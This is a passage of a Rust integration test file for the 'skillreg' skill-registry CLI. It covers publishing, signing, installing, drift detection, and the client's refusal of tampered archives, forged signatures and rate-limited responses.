//! The `skillreg` client end to end: the built binary against a real `skillreg serve`
//! process, each test with its own data folder, HOME, config and project folder. Error
//! paths a correct server never produces (bytes that do not match their digest, a tampered
//! signature, a 429 that does not end) are served by a small canned server built from what
//! the real one served.

#![expect(
    clippy::unwrap_used,
    clippy::panic,
    reason = "in tests an unwrap or a panic is an assertion with a location"
)]

use std::io::{BufReader, Read, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use skillreg_testkit::process::Server;
use tempfile::TempDir;

fn serve() -> Server {
    serve_with(&[])
}

fn serve_with(extra: &[&str]) -> Server {
    Server::start(Path::new(env!("CARGO_BIN_EXE_skillreg")), extra)
}

/// One person's machine: a HOME, a project folder, and the registry they use.
struct User {
    home: TempDir,
    project: TempDir,
    url: String,
    token: Option<String>,
}

struct Run {
    code: i32,
    stdout: String,
    stderr: String,
}

impl Run {
    fn ok(self) -> Self {
        assert_eq!(
            self.code, 0,
            "stdout: {}\nstderr: {}",
            self.stdout, self.stderr
        );
        self
    }

    fn json(&self) -> serde_json::Value {
        serde_json::from_str(&self.stdout)
            .unwrap_or_else(|e| panic!("not JSON ({e}): {}", self.stdout))
    }
}

impl From<Output> for Run {
    fn from(output: Output) -> Self {
        Run {
            code: output.status.code().unwrap_or(-1),
            stdout: String::from_utf8_lossy(&output.stdout).into_owned(),
            stderr: String::from_utf8_lossy(&output.stderr).into_owned(),
        }
    }
}

impl User {
    fn new(url: &str, token: Option<String>) -> Self {
        let home = tempfile::tempdir().unwrap();
        // Claude Code and Cursor are "installed" on this machine.
        std::fs::create_dir_all(home.path().join(".claude")).unwrap();
        std::fs::create_dir_all(home.path().join(".cursor")).unwrap();
        User {
            home,
            project: tempfile::tempdir().unwrap(),
            url: url.to_owned(),
            token,
        }
    }

    fn command(&self, args: &[&str]) -> Command {
        let mut command = Command::new(env!("CARGO_BIN_EXE_skillreg"));
        command
            .args(args)
            .current_dir(self.project.path())
            .env("HOME", self.home.path())
            .env_remove("XDG_CONFIG_HOME")
            .env_remove("XDG_DATA_HOME")
            .env_remove("REGISTRY_ORG")
            .env_remove("REGISTRY_VERIFY_SIGNATURE")
            .env("REGISTRY_URL", &self.url);
        match &self.token {
            Some(token) => command.env("REGISTRY_TOKEN", token),
            None => command.env_remove("REGISTRY_TOKEN"),
        };
        command
    }

    fn run(&self, args: &[&str]) -> Run {
        self.command(args).output().unwrap().into()
    }

    fn run_env(&self, args: &[&str], env: &[(&str, &str)]) -> Run {
        let mut command = self.command(args);
        for (key, value) in env {
            command.env(key, value);
        }
        command.output().unwrap().into()
    }

    fn path(&self, relative: &str) -> PathBuf {
        self.project.path().join(relative)
    }
}

/// A skill folder `name` in `parent`, with a version and a script.
fn write_skill(parent: &Path, name: &str, version: &str, script: &str) -> PathBuf {
    let dir = parent.join(name);
    std::fs::create_dir_all(dir.join("scripts")).unwrap();
    std::fs::write(
        dir.join("SKILL.md"),
        format!("---\nname: {name}\ndescription: Tools for {name} work.\nmetadata:\n  version: \"{version}\"\n---\n\n# {name}\n\nRun the script.\n"),
    )
    .unwrap();
    std::fs::write(dir.join("scripts/run.sh"), script).unwrap();
    dir
}

/// Each file under `root` with its inode and when it was last written: a file written
/// again (even with the same bytes, through a temporary file and a rename) changes both.
fn written(root: &Path) -> Vec<(PathBuf, u64, std::time::SystemTime)> {
    use std::os::unix::fs::MetadataExt as _;
    let mut out: Vec<_> = tree(root)
        .into_iter()
        .filter(|(path, _)| !path.ends_with('/'))
        .map(|(path, _)| {
            let full = root.join(&path);
            let metadata = std::fs::metadata(&full).unwrap();
            (full, metadata.ino(), metadata.modified().unwrap())
        })
        .collect();
    out.sort();
    out
}

fn tree(root: &Path) -> Vec<(String, Vec<u8>)> {
    let mut out = Vec::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(dir) = stack.pop() {
        let Ok(entries) = std::fs::read_dir(&dir) else {
            continue;
        };
        for entry in entries {
            let path = entry.unwrap().path();
            let relative = path.strip_prefix(root).unwrap().display().to_string();
            if path.is_dir() {
                out.push((relative + "/", Vec::new()));
                stack.push(path);
            } else {
                out.push((relative, std::fs::read(&path).unwrap()));
            }
        }
    }
    out.sort();
    out
}

#[test]
fn the_tour() {
    let server = serve();
    let admin = User::new(&server.url, Some(server.admin_token()));
    // A publisher token for acme, created by the admin.
    let created = admin
        .run(&[
            "--json",
            "token",
            "create",
            "ci",
            "--scope",
            "publish-new",
            "--scope",
            "publish-update",
            "--scope",
            "rate",
            "--namespace",
            "acme",
        ])
        .ok()
        .json();
    let token = created["token"].as_str().unwrap().to_owned();
    let publisher = User::new(&server.url, Some(token));

    // init, sign, publish.
    publisher.run(&["init", "pdf-tools"]).ok();
    let skill = publisher.path("pdf-tools");
    publisher.run(&["validate", "pdf-tools"]).ok();
    let key = publisher.run(&["--json", "keygen"]).ok().json();
    assert_eq!(key["registered"], true);
    let key_id = key["key_id"].as_str().unwrap().to_owned();
    let published = publisher
        .run(&[
            "--json",
            "publish",
            "pdf-tools",
            "--namespace",
            "acme",
            "--sign",
        ])
        .ok()
        .json();
    assert_eq!(published["status"], "created");
    assert_eq!(
        published["version"]["signatures"][0]["key_id"],
        key_id.as_str()
    );

    // Someone else finds it and installs it for two clients, verifying signatures.
    let user = User::new(&server.url, None);
    let found = user.run(&["--json", "search", "pdf"]).ok().json();
    assert_eq!(found["skills"][0]["id"], "acme/pdf-tools");
    let verify = [("REGISTRY_VERIFY_SIGNATURE", "true")];
    user.run_env(
        &[
            "install",
            "pdf-tools",
            "--scope",
            "project",
            "--client",
            "claude-code",
            "--client",
            "cursor",
        ],
        &verify,
    )
    .ok();
    for dir in [".claude/skills/pdf-tools", ".cursor/skills/pdf-tools"] {
        assert!(user.path(dir).join("SKILL.md").is_file(), "{dir}");
    }
    let lock = std::fs::read_to_string(user.path("skills.lock")).unwrap();
    assert!(lock.contains("id = \"acme/pdf-tools\""), "{lock}");
    assert!(lock.contains("version = \"0.1.0\""), "{lock}");
    assert!(lock.contains(&format!("signer = \"{key_id}\"")), "{lock}");
    assert!(
        lock.contains("clients = [\"claude-code\", \"cursor\"]"),
        "{lock}"
    );
    assert!(user.path("skills.toml").is_file());

    // Installing again changes nothing, and so does installing from the lock: no file is
    // written again, not even with the same bytes.
    let before = tree(user.project.path());
    let times = written(user.project.path());
    let again = user.run(&["install", "pdf-tools"]).ok();
    assert!(
        again.stdout.contains("already installed"),
        "{}",
        again.stdout
    );
    let from_lock = user.run(&["install"]).ok();
    assert!(
        from_lock.stdout.contains("up to date"),
        "{}",
        from_lock.stdout
    );
    assert_eq!(tree(user.project.path()), before);
    assert_eq!(written(user.project.path()), times, "a file was rewritten");

    // A new version: outdated sees it, update installs it.
    std::fs::write(
        skill.join("SKILL.md"),
        std::fs::read_to_string(skill.join("SKILL.md"))
            .unwrap()
            .replace("version: \"0.1.0\"", "version: \"0.2.0\""),
    )
    .unwrap();
    std::fs::write(skill.join("notes.md"), "new in 0.2.0\n").unwrap();
    publisher
        .run(&["publish", "pdf-tools", "--namespace", "acme", "--sign"])
        .ok();
    let outdated = user.run(&["--json", "outdated"]).ok().json();
    assert_eq!(outdated["outdated"][0]["latest"], "0.2.0");
    user.run_env(&["update"], &verify).ok();
    assert!(user.path(".cursor/skills/pdf-tools/notes.md").is_file());
    let lock = std::fs::read_to_string(user.path("skills.lock")).unwrap();
    assert!(lock.contains("version = \"0.2.0\""), "{lock}");
    user.run(&["sync", "--check"]).ok();

    // An edit is drift: exit 3, nothing changed.
    std::fs::write(user.path(".claude/skills/pdf-tools/notes.md"), "edited\n").unwrap();
    let drift = user.run(&["--json", "sync", "--check"]);
    assert_eq!(drift.code, 3, "{}", drift.stderr);
    assert_eq!(drift.json()["drift"][0]["kind"], "edited");
    assert_eq!(
        std::fs::read_to_string(user.path(".claude/skills/pdf-tools/notes.md")).unwrap(),
        "edited\n"
    );

    // list shows both folders; uninstall needs --force for the edited one.
    let listed = user.run(&["--json", "list"]).ok().json();
    assert_eq!(listed["installed"].as_array().unwrap().len(), 2);
    let refused = user.run(&["uninstall", "pdf-tools"]);
    assert_eq!(refused.code, 4, "{}", refused.stderr);
    assert!(
        user.path(".cursor/skills/pdf-tools").is_dir(),
        "a refused uninstall removes nothing"
    );
    user.run(&["uninstall", "pdf-tools", "--force"]).ok();
    assert!(!user.path(".claude/skills/pdf-tools").exists());
    assert!(!user.path(".cursor/skills/pdf-tools").exists());
    assert!(
        !std::fs::read_to_string(user.path("skills.lock"))
            .unwrap()
            .contains("pdf-tools")
    );
}

#[test]
fn resolution_errors_say_what_was_searched() {
    let server = serve();
    let admin = User::new(&server.url, Some(server.admin_token()));
    let skills = tempfile::tempdir().unwrap();
    let dir = write_skill(skills.path(), "mailer", "1.0.0", "echo mail\n");
    for namespace in ["acme", "globex"] {
        admin
            .run(&["publish", dir.to_str().unwrap(), "--namespace", namespace])
            .ok();
    }
    let user = User::new(&server.url, None);

    let unknown = user.run(&["install", "no-such-skill", "--client", "cursor"]);
    assert_eq!(unknown.code, 1);
    assert!(
        unknown.stderr.contains("`no-such-skill` not found"),
        "{}",
        unknown.stderr
    );
    assert!(
        unknown.stderr.contains("searched local store")
            && unknown.stderr.contains("; registry http"),
        "{}",
        unknown.stderr
    );
    assert!(unknown.stderr.contains("hint:"), "{}", unknown.stderr);

    let ambiguous = user.run(&["--json", "install", "mailer", "--client", "cursor"]);
    assert_eq!(ambiguous.code, 1);
    let error: serde_json::Value = serde_json::from_str(ambiguous.stderr.trim()).unwrap();
    assert!(
        error["error"]["message"]
            .as_str()
            .unwrap()
            .contains("ambiguous")
    );
    assert_eq!(
        error["error"]["details"]["candidates"],
        serde_json::json!(["acme/mailer", "globex/mailer"])
    );
    assert!(
        error["error"]["hint"]
            .as_str()
            .unwrap()
            .contains("acme/mailer")
    );

    let no_version = user.run(&["install", "acme/mailer@^2", "--client", "cursor"]);
    assert_eq!(no_version.code, 1);
    assert!(
        no_version.stderr.contains("has 1.0.0"),
        "{}",
        no_version.stderr
    );

    // An unreachable registry is reported as failed, never as having no such skill.
    let port = {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.local_addr().unwrap().port()
    };
    let offline = User::new(&format!("http://127.0.0.1:{port}"), None);
    let down = offline.run(&["install", "mailer", "--client", "cursor"]);
    assert_eq!(down.code, 1);
    assert!(down.stderr.contains("failed"), "{}", down.stderr);
    assert!(down.stderr.contains("reachable"), "{}", down.stderr);
    assert!(
        down.stderr
            .contains("not found in the sources that answered"),
        "{}",
        down.stderr
    );
    assert!(
        down.stderr.contains("failed (unreachable"),
        "{}",
        down.stderr
    );
    let down = offline.run(&["search", "mailer"]);
    assert!(down.stderr.contains("unreachable"), "{}", down.stderr);
    assert!(!down.stderr.contains("not found"), "{}", down.stderr);

    // Nothing was installed by any of it.
    assert!(!user.path(".cursor").exists());
    assert!(!user.home.path().join(".cursor/skills").exists());
}

#[test]
fn folders_in_the_way_locks_and_signers_are_policy_refusals() {
    let server = serve();
    let admin = User::new(&server.url, Some(server.admin_token()));
    let skills = tempfile::tempdir().unwrap();
    let dir = write_skill(skills.path(), "lint", "1.0.0", "echo 1\n");
    admin.run(&["keygen"]).ok();
    admin
        .run(&[
            "publish",
            dir.to_str().unwrap(),
            "--namespace",
            "acme",
            "--sign",
        ])
        .ok();

    let user = User::new(&server.url, None);
    // A folder skillreg did not write is in the way: refused, untouched.
    let mine = user.path(".cursor/skills/lint");
    std::fs::create_dir_all(&mine).unwrap();
    std::fs::write(mine.join("SKILL.md"), "mine\n").unwrap();
    let refused = user.run(&[
        "install",
        "acme/lint",
        "--scope",
        "project",
        "--client",
        "cursor",
        "--client",
        "claude-code",
    ]);
    assert_eq!(refused.code, 4, "{}", refused.stderr);
    assert!(
        refused.stderr.contains("not installed by skillreg"),
        "{}",
        refused.stderr
    );
    assert!(
        refused.stderr.contains("--on-conflict"),
        "{}",
        refused.stderr
    );
    assert_eq!(
        std::fs::read_to_string(mine.join("SKILL.md")).unwrap(),
        "mine\n"
    );
    assert!(
        !user.path(".claude/skills/lint").exists(),
        "no client was written"
    );
    assert!(!user.path("skills.lock").exists());
    user.run(&[
        "install",
        "acme/lint",
        "--scope",
        "project",
        "--client",
        "cursor",
        "--client",
        "claude-code",
        "--on-conflict",
        "overwrite",
    ])
    .ok();
    assert_ne!(
        std::fs::read_to_string(mine.join("SKILL.md")).unwrap(),
        "mine\n"
    );

    // Pin the signer, then the publisher signs 1.1.0 with another key.
    let verify = [("REGISTRY_VERIFY_SIGNATURE", "true")];
    user.run_env(&["update"], &verify).ok();
    assert!(
        std::fs::read_to_string(user.path("skills.lock"))
            .unwrap()
            .contains("signer = \"ed25519:")
    );
    admin.run(&["keygen", "--force"]).ok();
    let dir = write_skill(skills.path(), "lint", "1.1.0", "echo 2\n");
    admin
        .run(&[
            "publish",
            dir.to_str().unwrap(),
            "--namespace",
            "acme",
            "--sign",
        ])
        .ok();
    let before = tree(user.project.path());
    let changed = user.run(&["update"]);
    assert_eq!(changed.code, 4, "{}", changed.stderr);
    assert!(
        changed.stderr.contains("the lock pins"),
        "{}",
        changed.stderr
    );
    assert!(
        changed.stderr.contains("--allow-signer-change"),
        "{}",
        changed.stderr
    );
    assert_eq!(
        tree(user.project.path()),
        before,
        "a refused signer writes nothing"
    );
    user.run(&["update", "--allow-signer-change"]).ok();

    // --locked with a stale lock: the manifest asks for something the lock lacks.
    let manifest = std::fs::read_to_string(user.path("skills.toml")).unwrap();
    std::fs::write(
        user.path("skills.toml"),
        format!("{manifest}\"acme/other\" = \"latest\"\n"),
    )
    .unwrap();
    let stale = user.run(&["install", "--locked"]);
    assert_eq!(stale.code, 4, "{}", stale.stderr);
    assert!(
        stale.stderr.contains("skills.lock is out of date"),
        "{}",
        stale.stderr
    );
}

#[test]
fn import_covers_every_conflict_strategy() {
    let server = serve();
    let admin = User::new(&server.url, Some(server.admin_token()));
    let bob_token = admin
        .run(&[
            "--json",
            "token",
            "create",
            "bob",
            "--user",
            "bob",
            "--scope",
            "publish-new",
            "--scope",
            "publish-update",
            "--namespace",
            "*",
        ])
        .ok()
        .json()["token"]
        .as_str()
        .unwrap()
        .to_owned();
    let bob = User::new(&server.url, Some(bob_token));
    admin.run(&["namespace", "create", "acme"]).ok();
    admin.run(&["namespace", "add-member", "acme", "bob"]).ok();
    let skills = tempfile::tempdir().unwrap();
    let dir = write_skill(skills.path(), "report", "1.0.0", "echo a\n");
    let dir = dir.to_str().unwrap();
    let import = |who: &User, strategy: &str| {
        who.run(&[
            "--json",
            "import",
            dir,
            "--namespace",
            "acme",
            "--on-conflict",
            strategy,
        ])
    };

    assert_eq!(import(&admin, "fail").ok().json()["status"], "created");
    assert_eq!(
        import(&admin, "fail").ok().json()["status"],
        "unchanged",
        "retrying a finished import changes nothing"
    );
    write_skill(skills.path(), "report", "1.1.0", "echo b\n");
    let conflict = import(&bob, "fail");
    assert_eq!(conflict.code, 4, "{}", conflict.stderr);
    let error: serde_json::Value = serde_json::from_str(conflict.stderr.trim()).unwrap();
    assert_eq!(error["error"]["details"]["status"], "conflict");
    assert_eq!(error["error"]["details"]["can_overwrite"], false);
    assert!(error["error"]["hint"].as_str().unwrap().contains("rename"));
    assert_eq!(import(&bob, "skip").ok().json()["status"], "skipped");
    let refused = import(&bob, "overwrite");
    assert_eq!(
        refused.code, 4,
        "only the creator overwrites: {}",
        refused.stderr
    );
    let renamed = import(&bob, "rename").ok().json();
    assert_eq!(renamed["id"], "acme/report-2");
    let overwritten = import(&admin, "overwrite").ok().json();
    assert_eq!(overwritten["status"], "updated");
    assert_eq!(overwritten["id"], "acme/report");
}

/// One canned answer: path prefix, status, extra headers, body.
type Route = (String, u16, Vec<(String, String)>, Vec<u8>);

/// Serves canned answers; the first route whose prefix matches wins.
fn canned(routes: Vec<Route>) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            let mut reader = BufReader::new(stream.try_clone().unwrap());
            let (request_line, _) = skillreg_testkit::http::read_request(&mut reader);
            let target = request_line.split(' ').nth(1).unwrap_or("/").to_owned();
            let (status, headers, body) = routes
                .iter()
                .find(|(prefix, ..)| target.starts_with(prefix.as_str()))
                .map_or((404, Vec::new(), b"{}".to_vec()), |(_, s, h, b)| {
                    (*s, h.clone(), b.clone())
                });
            let mut head = format!(
                "HTTP/1.1 {status} X\r\nContent-Length: {}\r\nConnection: close\r\n",
                body.len()
            );
            for (name, value) in headers {
                head.push_str(&format!("{name}: {value}\r\n"));
            }
            head.push_str("\r\n");
            let _ = stream.write_all(head.as_bytes());
            let _ = stream.write_all(&body);
        }
    });
    url
}

fn get(url: &str) -> Vec<u8> {
    let address = url.strip_prefix("http://").unwrap();
    let (host, path) = address.split_once('/').unwrap();
    let mut stream = std::net::TcpStream::connect(host).unwrap();
    write!(
        stream,
        "GET /{path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"
    )
    .unwrap();
    let mut response = Vec::new();
    stream.read_to_end(&mut response).unwrap();
    let split = response.windows(4).position(|w| w == b"\r\n\r\n").unwrap();
    response[split + 4..].to_vec()
}

#[test]
fn tampered_bytes_tampered_signatures_and_rate_limits_are_refused() {
    let server = serve();
    let admin = User::new(&server.url, Some(server.admin_token()));
    let skills = tempfile::tempdir().unwrap();
    let dir = write_skill(skills.path(), "pdf", "1.0.0", "echo pdf\n");
    let key = admin.run(&["--json", "keygen"]).ok().json();
    admin
        .run(&[
            "publish",
            dir.to_str().unwrap(),
            "--namespace",
            "acme",
            "--sign",
        ])
        .ok();
    let versions = get(&format!("{}/api/v1/skills/acme/pdf/-/versions", server.url));
    let archive = get(&format!("{}/api/v1/skills/acme/pdf/-/download", server.url));
    let key_id = key["key_id"].as_str().unwrap();
    let public_key = get(&format!("{}/api/v1/keys/{key_id}", server.url));
    let json = |_: &[u8]| vec![("Content-Type".to_owned(), "application/json".to_owned())];

    // Bytes that do not match the announced digest.
    let mut tampered_archive = archive.clone();
    let last = tampered_archive.len() - 1;
    tampered_archive[last] ^= 1;
    let url = canned(vec![
        (
            "/api/v1/skills/acme/pdf/-/versions".into(),
            200,
            json(&versions),
            versions.clone(),
        ),
        (
            "/api/v1/skills/acme/pdf/-/download".into(),
            200,
            Vec::new(),
            tampered_archive,
        ),
    ]);
    let user = User::new(&url, None);
    let mismatch = user.run(&["install", "acme/pdf", "--client", "cursor"]);
    assert_eq!(mismatch.code, 4, "{}", mismatch.stderr);
    assert!(
        mismatch.stderr.contains("digest mismatch"),
        "{}",
        mismatch.stderr
    );
    assert!(
        mismatch.stderr.contains("nothing was written"),
        "{}",
        mismatch.stderr
    );
    assert!(!user.home.path().join(".cursor/skills").exists());

    // A signature that does not cover what was served.
    let text = String::from_utf8(versions.clone()).unwrap();
    let parsed: serde_json::Value = serde_json::from_str(&text).unwrap();
    let value = parsed["versions"][0]["signatures"][0]["value"]
        .as_str()
        .unwrap();
    let flipped = format!(
        "{}{}",
        if value.starts_with('0') { "1" } else { "0" },
        &value[1..]
    );
    let tampered_versions = text.replace(value, &flipped).into_bytes();
    let url = canned(vec![
        (
            "/api/v1/skills/acme/pdf/-/versions".into(),
            200,
            json(&tampered_versions),
            tampered_versions,
        ),
        (
            "/api/v1/skills/acme/pdf/-/download".into(),
            200,
            Vec::new(),
            archive.clone(),
        ),
        (
            "/api/v1/keys/".into(),
            200,
            json(&public_key),
            public_key.clone(),
        ),
    ]);
    let user = User::new(&url, None);
    let bad = user.run_env(
        &["install", "acme/pdf", "--client", "cursor"],
        &[("REGISTRY_VERIFY_SIGNATURE", "true")],
    );
    assert_eq!(bad.code, 4, "{}", bad.stderr);
    assert!(
        bad.stderr.contains("signature check failed"),
        "{}",
        bad.stderr
    );
    assert!(!user.home.path().join(".cursor/skills").exists());
    // Without the trust policy the same bytes install (the signature is not checked).
    user.run(&["install", "acme/pdf", "--client", "cursor"])
        .ok();

    // A registry that keeps answering 429.
    let envelope =
        br#"{"error":{"type":"RateLimitedError","message":"too many requests","details":{}}}"#
            .to_vec();
    let url = canned(vec![(
        "/".into(),
        429,
        vec![("Retry-After".into(), "120".into())],
        envelope,
    )]);
    let user = User::new(&url, None);
    let limited = user.run(&["search", "pdf"]);
    assert_eq!(limited.code, 1, "{}", limited.stderr);
    assert!(
        limited.stderr.contains("rate limiting"),
        "{}",
        limited.stderr
    );
    assert!(limited.stderr.contains("wait 120 s"), "{}", limited.stderr);
    let install = user.run(&["install", "acme/pdf", "--client", "cursor"]);
    assert!(
        install.stderr.contains("rate limited"),
        "{}",
        install.stderr
    );
    assert!(
        install
            .stderr
            .contains("not found in the sources that answered"),
        "{}",
        install.stderr
    );
}

#[test]
fn hmac_signatures_verify_against_a_local_secret() {
    use skillreg_core::ports::Signer as _;
    let server = serve();
    let admin = User::new(&server.url, Some(server.admin_token()));
    let skills = tempfile::tempdir().unwrap();
    let dir = write_skill(skills.path(), "sheet", "1.0.0", "echo sheet\n");
    admin
        .run(&["publish", dir.to_str().unwrap(), "--namespace", "acme"])
        .ok();
    let versions = get(&format!(
        "{}/api/v1/skills/acme/sheet/-/versions",
        server.url
    ));
    let archive = get(&format!(
        "{}/api/v1/skills/acme/sheet/-/download",
        server.url
    ));
    let mut parsed: serde_json::Value = serde_json::from_slice(&versions).unwrap();
    let version = &parsed["versions"][0];
    let statement = skillreg_core::signature::VersionStatement {
        id: "acme/sheet".parse().unwrap(),
        version: "1.0.0".parse().unwrap(),
        archive_digest: version["archive_digest"].as_str().unwrap().parse().unwrap(),
        content_digest: version["content_digest"].as_str().unwrap().parse().unwrap(),
    };
    let secret = b"a secret the verifier already holds";
    let signature = skillreg_adapters::signing::HmacSigner::new("ci", secret)
        .sign(&statement)
        .unwrap();
    parsed["versions"][0]["signatures"] = serde_json::json!([{
        "algorithm": "hmac-sha256", "key_id": "ci",
        "value": skillreg_core::digest::hex(&signature.value),
    }]);
    let served = parsed.to_string().into_bytes();
    let url = canned(vec![
        (
            "/api/v1/skills/acme/sheet/-/versions".into(),
            200,
            Vec::new(),
            served,
        ),
        (
            "/api/v1/skills/acme/sheet/-/download".into(),
            200,
            Vec::new(),
            archive,
        ),
    ]);
    let user = User::new(&url, None);
    let config = user.home.path().join(".config/skillreg");
    std::fs::create_dir_all(&config).unwrap();
    let write_secret = |secret: &[u8]| {
        std::fs::write(
            config.join("config.toml"),
            format!(
                "[trust]\nverify_signatures = true\nhmac_secrets = {{ ci = \"{}\" }}\n",
                skillreg_core::digest::hex(secret)
            ),
        )
        .unwrap();
    };
    write_secret(b"another secret");
    let wrong = user.run(&[
        "install",
        "acme/sheet",
        "--scope",
        "project",
        "--client",
        "cursor",
    ]);
    assert_eq!(wrong.code, 4, "{}", wrong.stderr);
    assert!(
        wrong.stderr.contains("signature check failed"),
        "{}",
        wrong.stderr
    );
    write_secret(secret);
    user.run(&[
        "install",
        "acme/sheet",
        "--scope",
        "project",
        "--client",
        "cursor",
    ])
    .ok();
    let lock = std::fs::read_to_string(user.path("skills.lock")).unwrap();
    assert!(lock.contains("signer = \"hmac-sha256:ci\""), "{lock}");
}

#[test]
fn every_other_command_against_the_server() {
    let server = serve();
    let admin = User::new(&server.url, Some(server.admin_token()));
    let skills = tempfile::tempdir().unwrap();
    let dir = write_skill(skills.path(), "notes", "1.0.0", "echo notes\n");
    let dir = dir.to_str().unwrap();
    admin.run(&["pack", dir, "--output", "notes.tar.gz"]).ok();
    assert!(admin.path("notes.tar.gz").is_file());
    // Publishing the archive is the same as publishing the folder.
    admin
        .run(&[
            "publish",
            "notes.tar.gz",
            "--namespace",
            "acme",
            "--version",
            "1.0.0",
        ])
        .ok();
    let again = admin
        .run(&["--json", "publish", dir, "--namespace", "acme"])
        .ok()
        .json();
    assert_eq!(again["status"], "unchanged");

    let rated = admin
        .run(&["--json", "rate", "acme/notes", "4.5", "--review", "handy"])
        .ok()
        .json();
    assert_eq!(rated["count"], 1);
    let ratings = admin.run(&["--json", "ratings", "acme/notes"]).ok().json();
    assert_eq!(ratings["recent"][0]["review"], "handy");
    // Nothing installed yet, nothing trends; one install later, it does.
    let trending = admin.run(&["--json", "trending"]).ok().json();
    assert_eq!(trending["skills"], serde_json::json!([]), "{trending}");
    admin
        .run(&["install", "acme/notes", "--client", "cursor"])
        .ok();
    let trending = admin.run(&["--json", "trending"]).ok().json();
    assert_eq!(
        (
            &trending["skills"][0]["id"],
            &trending["skills"][0]["installs"]
        ),
        (&serde_json::json!("acme/notes"), &serde_json::json!(1)),
        "{trending}"
    );
    admin.run(&["yank", "acme/notes@1.0.0"]).ok();
    let versions = admin.run(&["--json", "versions", "acme/notes"]).ok().json();
    assert_eq!(versions[0]["yanked"], true);
    admin.run(&["unyank", "acme/notes@1.0.0"]).ok();
    let versions = admin.run(&["--json", "versions", "acme/notes"]).ok().json();
    assert_eq!(versions[0]["yanked"], false, "{versions}");
    admin
        .run(&["deprecate", "acme/notes", "use acme/notebook"])
        .ok();
    let info = admin.run(&["--json", "info", "acme/notes"]).ok().json();
    assert_eq!(info["deprecated"], "use acme/notebook");
    admin.run(&["deprecate", "acme/notes", "--clear"]).ok();
    let info = admin.run(&["--json", "info", "acme/notes"]).ok().json();
    assert!(info["deprecated"].is_null(), "{info}");
    let made = admin
        .run(&["--json", "token", "create", "tmp", "--scope", "rate"])
        .ok()
        .json();
    let id = made["id"].as_str().unwrap().to_owned();
    let listed = admin.run(&["--json", "token", "list"]).ok().json();
    assert!(
        listed["tokens"]
            .as_array()
            .unwrap()
            .iter()
            .any(|t| t["id"] == id.as_str())
    );
    admin.run(&["token", "revoke", &id]).ok();
    let listed = admin.run(&["--json", "token", "list"]).ok().json();
    let revoked = listed["tokens"]
        .as_array()
        .unwrap()
        .iter()
        .find(|t| t["id"] == id.as_str())
        .unwrap();
    assert!(revoked["revoked_at_ms"].is_i64(), "{revoked}");
    let with_it = User::new(
        &server.url,
        Some(made["token"].as_str().unwrap().to_owned()),
    );
    let refused = with_it.run(&["rate", "acme/notes", "3"]);
    assert_ne!(
        refused.code, 0,
        "a revoked token still rates: {}",
        refused.stdout
    );
    let namespace = admin
        .run(&["--json", "namespace", "show", "acme"])
        .ok()
        .json();
    assert_eq!(namespace["namespace"], "acme");
    let usage = admin.run(&["yank", "acme/notes"]);
    assert_eq!(usage.code, 2, "{}", usage.stderr);

    // Two registries in order: the first has nothing, the second speaks only the Package
    // Registry Standard.
    let empty = canned(Vec::new());
    let user = User::new(&empty, None);
    let config = user.home.path().join(".config/skillreg");
    std::fs::create_dir_all(&config).unwrap();
    std::fs::write(
        config.join("config.toml"),
        format!(
            "[[registry]]\nname = \"standard\"\nurl = \"{}\"\nkind = \"package-registry\"\n",
            server.url
        ),
    )
    .unwrap();
    let order = user.run(&["--json", "registry", "list"]).ok().json();
    assert_eq!(order[0]["url"], empty.as_str());
    assert_eq!(order[1]["kind"], "package-registry");
    user.run(&[
        "install",
        "acme/notes",
        "--scope",
        "project",
        "--client",
        "cursor",
    ])
    .ok();
    let lock = std::fs::read_to_string(user.path("skills.lock")).unwrap();
    assert!(
        lock.contains(&format!("source = \"registry+{}\"", server.url)),
        "{lock}"
    );

    // Drift by an extra folder: --check reports, --adopt locks it, --prune removes it.
    let lock_path = user.path("skills.lock");
    let locked = std::fs::read_to_string(&lock_path).unwrap();
    std::fs::write(&lock_path, "version = 1\n").unwrap();
    let extra = user.run(&["--json", "sync", "--check"]);
    assert_eq!(extra.code, 3);
    assert_eq!(extra.json()["drift"][0]["kind"], "extra");
    user.run(&["sync", "--adopt"]).ok();
    assert!(
        std::fs::read_to_string(&lock_path)
            .unwrap()
            .contains("acme/notes")
    );
    user.run(&["sync", "--check"]).ok();
    std::fs::write(&lock_path, "version = 1\n").unwrap();
    user.run(&["sync", "--prune"]).ok();
    assert!(!user.path(".cursor/skills/notes").exists());
    // A missing folder is drift too; install from the lock puts it back.
    std::fs::write(&lock_path, locked).unwrap();
    let missing = user.run(&["--json", "sync", "--check"]);
    assert_eq!(missing.json()["drift"][0]["kind"], "missing");
    user.run(&["install"]).ok();
    user.run(&["sync", "--check"]).ok();
}

/// Copies a fixture skill into `parent`.
fn copy_fixture(name: &str, parent: &Path) -> PathBuf {
    let source = skillreg_testkit::fixtures::fixture_path(name);
    let target = parent.join(name);
    let mut stack = vec![source.clone()];
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(&dir).unwrap() {
            let path = entry.unwrap().path();
            let relative = path.strip_prefix(&source).unwrap();
            if path.is_dir() {
                std::fs::create_dir_all(target.join(relative)).unwrap();
                stack.push(path);
            } else {
                std::fs::create_dir_all(target.join(relative).parent().unwrap()).unwrap();
                std::fs::copy(&path, target.join(relative)).unwrap();
            }
        }
    }
    target
}

fn content_digest(dir: &Path) -> String {
    skillreg_adapters::fs::read_skill_folder(dir, &skillreg_core::bundle::BundleLimits::default())
        .unwrap()
        .content_digest()
        .to_string()
}

const FIXTURES: [&str; 4] = [
    "brand-guidelines",
    "claude-api",
    "frontend-design",
    "internal-comms",
];

#[test]
fn build_push_pull_and_install_through_an_oci_registry() {
    let registry = skillreg_testkit::oci_registry::DockerRegistry::start();
    let author = User::new("http://127.0.0.1:1", None);
    let skills = tempfile::tempdir().unwrap();
    for name in FIXTURES {
        let dir = copy_fixture(name, skills.path());
        let built = author
            .run(&[
                "--json",
                "build",
                dir.to_str().unwrap(),
                "--version",
                "1.0.0",
            ])
            .ok()
            .json();
        assert_eq!(built["reference"], format!("{name}:1.0.0"));
        let again = author
            .run(&[
                "--json",
                "build",
                dir.to_str().unwrap(),
                "--version",
                "1.0.0",
            ])
            .ok()
            .json();
